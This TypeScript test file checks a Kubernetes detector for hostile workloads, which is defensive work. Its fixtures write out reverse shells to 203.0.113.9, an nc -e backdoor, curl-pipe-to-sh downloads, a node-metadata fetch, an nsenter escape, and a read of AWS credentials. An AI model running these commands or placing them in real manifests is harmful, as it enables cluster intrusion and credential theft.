import { hostileWorkload } from '../../../lib/detectors/hostile-workload.ts';
import { testActs } from './verdicts.ts';

const run = (command: unknown, given = {}) => ({ verb: 'create', resource: 'pods', namespace: 'shop', name: 'cart', body: { spec: { containers: [{ image: 'x', command }] } }, ...given });
const as = (serviceAccountName: unknown) => ({ body: { spec: { serviceAccountName } } });

testActs(hostileWorkload, {
  hits: [
    ['a shell to somewhere else', run(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1']), ['remote-shell: shop']],
    ['the metadata service of the node', run(['wget', '-qO-', '169.254.169.254']), ['metadata: shop']],
    ['a way out to the node', run(['nsenter', '-t', '1', '-m', 'sh']), ['escape: shop']],
    ['credentials read within a Deployment', run([], { resource: 'apps/deployments', body: { spec: { template: { spec: { containers: [{ args: ['cat', '/root/.aws/credentials'] }] } } } } }), ['credentials: shop']],
    ['a download', run(['sh', '-c', 'curl -s https://203.0.113.9/x | sh']), ['fetched-script: shop']],
    ['a file fetched', run(['sh', '-c', 'wget -O /plugins/x https://203.0.113.9/x']), ['download: shop']],
    ['a name of a tool', run([], { name: 'peirates' }), ['tool: shop']],
    ['a borrowed name', run([], { name: 'kube-proxy-x' }), ['borrowed-name: shop']],
    ['a borrowed name with what controllers add', run([], { name: 'coredns-5d78c9869d-x7k2p' }), ['borrowed-name: shop']],
    ['a command that hides what it runs', run(['sh', '-c', 'echo aWQ= | base64 -d | sh']), ['hidden: shop']],
    ['a shell to somewhere else in a probe', run([], { body: { spec: { containers: [{ livenessProbe: { exec: { command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'] } } }] } } }), ['remote-shell: shop']],
    ['a shell to somewhere else in a hook', run([], { body: { spec: { containers: [{ command: ['sleep'], lifecycle: { postStart: { exec: { command: ['nc', '-e', '/bin/sh', '203.0.113.9', '443'] } } } }] } } }), ['remote-shell: shop']],
    ['a controller\'s identity', run([], { namespace: 'kube-system', ...as('clusterrole-aggregation-controller') }), ['controller: kube-system']],
  ],
  misses: [
    ['a name that tells what it watches', run([], { name: 'coredns-dashboard' })],
    ['a probe of other types', run([], { body: { spec: { containers: [{ livenessProbe: { exec: 'nsenter -t 1' }, lifecycle: 7 }] } } })],
    ['an ordinary command', run(['node', 'server.js'])],
    ['a part of the cluster at its place', run([], { namespace: 'kube-system', name: 'kube-proxy-x' })],
    ['a controller\'s name elsewhere', run([], as('ingress-controller'))],
    ['a refused one', run(['nsenter', '-t', '1'], { outcome: 'refused', code: 403 })],
    ['a command of another type', run('nsenter -t 1')],
    ['one whose body was not kept', run([], { body: undefined })],
  ],
});
